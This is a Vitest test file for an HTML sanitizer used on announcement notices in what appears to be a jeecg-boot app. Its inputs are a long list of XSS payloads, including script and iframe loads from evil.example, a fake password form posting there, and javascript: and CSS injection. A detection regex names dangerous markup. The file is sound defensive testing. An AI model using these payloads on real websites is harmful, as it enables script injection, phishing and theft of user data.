import { expect, test } from 'vitest'
import { announcements } from '../../db/seed/data/announcements.ts'
import { sanitizeNotice as sanitize } from './sanitize.ts'

const sanitizeNotice = (html: string) => sanitize(html, { apiBase: '/jeecg-boot' })

/**
 * Matches HTML that could run scripts, load frames, submit forms, restyle the page or call another server.
 */
const DANGEROUS =
  /<(script|iframe|object|embed|svg|math|form|input|button|style|link|meta|base|video|audio|template|noscript|xmp)|on\w+\s*=|javascript:|vbscript:|data:(?!image\/(png|jpeg|gif|webp);base64,)|srcset|url\(|expression|position|@import|\bid=|\bclass=/i

test.each([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src="/ok.png"/onload=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/.//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 2x" src="/a.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#1;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-color:url(javascript:alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">phish</div>',
  '<p style="color:red;behavior:url(x.htc)">x</p>',
  '<p onclick=alert(1)>x</p>',
  '<p id="root" class="ant-modal">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="<script>">x</p><details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
])('no harmful part of %s remains', (attack) => {
  const left = sanitizeNotice(attack)

  expect(left).not.toMatch(DANGEROUS)
  expect(left).not.toContain('evil.example')
})

test.each([
  ['text', '<p>今日 <strong>结算</strong><br />ok</p>'],
  ['lists', '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>'],
  ['a table', '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'],
  ['colours and alignment', '<p style="color:#cf1322;text-align:center">a</p>'],
  ['a picture in the text', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x" />'],
  ['a picture from this server', '<img src="/jeecg-boot/sys/common/static/a.png" />'],
  ['a link to a page of this site', '<a href="/bill/settleBill?id=1" rel="noopener noreferrer">a</a>'],
  ['characters that look like markup', '1 &lt; 2 &amp; 3 &gt; 2'],
])('the sanitizer leaves %s unchanged', (_, html) => {
  expect(sanitizeNotice(html)).toBe(html)
})

const STORED = `jeditor/${'a'.repeat(32)}.png`

test.each([
  `https://pay.example/jeecg-boot/sys/common/static/${STORED}`,
  `http://127.0.0.1:3000/jeecg-boot//sys/common/static/${STORED}`,
  `../../jeecg-boot/sys/common/static/${STORED}`,
])('the address of an uploaded picture becomes its path on this server: %s', (src) => {
  expect(sanitizeNotice(`<img src="${src}" alt="" />`)).toBe(
    `<img src="/jeecg-boot/sys/common/static/${STORED}" alt="" />`,
  )
})

test.each([
  `https://pay.example/x.png?/sys/common/static/${STORED}`,
  'https://pay.example/jeecg-boot/sys/common/static/../x.png',
])('a picture of another server is removed: %s', (src) => {
  expect(sanitizeNotice(`<img src="${src}" />`)).toBe('')
})

test('an external link opens a new tab that has no access to this one', () => {
  expect(sanitizeNotice('<a href="https://www.example.com/a" target="_self" rel="opener">a</a>')).toBe(
    '<a href="https://www.example.com/a" target="_blank" rel="noopener noreferrer">a</a>',
  )
})

test('sanitising twice changes nothing', () => {
  const once = sanitizeNotice('<p>a<a href="https://x.example">b</a><b>c<i>d</p><td>e')

  expect(sanitizeNotice(once)).toBe(once)
})

test('very deep and long markup is sanitised fast', () => {
  const began = performance.now()

  const left = sanitizeNotice(`${'<div>'.repeat(30_000)}x`)
  sanitizeNotice('<'.repeat(190_000))
  sanitizeNotice('<a href="'.repeat(20_000))

  expect(left.split('<div>').length).toBeLessThan(40)
  expect(performance.now() - began).toBeLessThan(10_000)
})

test.each(announcements)('the demo announcement $key is unchanged by the sanitiser', ({ html, titile }) => {
  expect(sanitizeNotice(html)).toBe(html)
  expect(titile.length).toBeLessThanOrEqual(100)
})
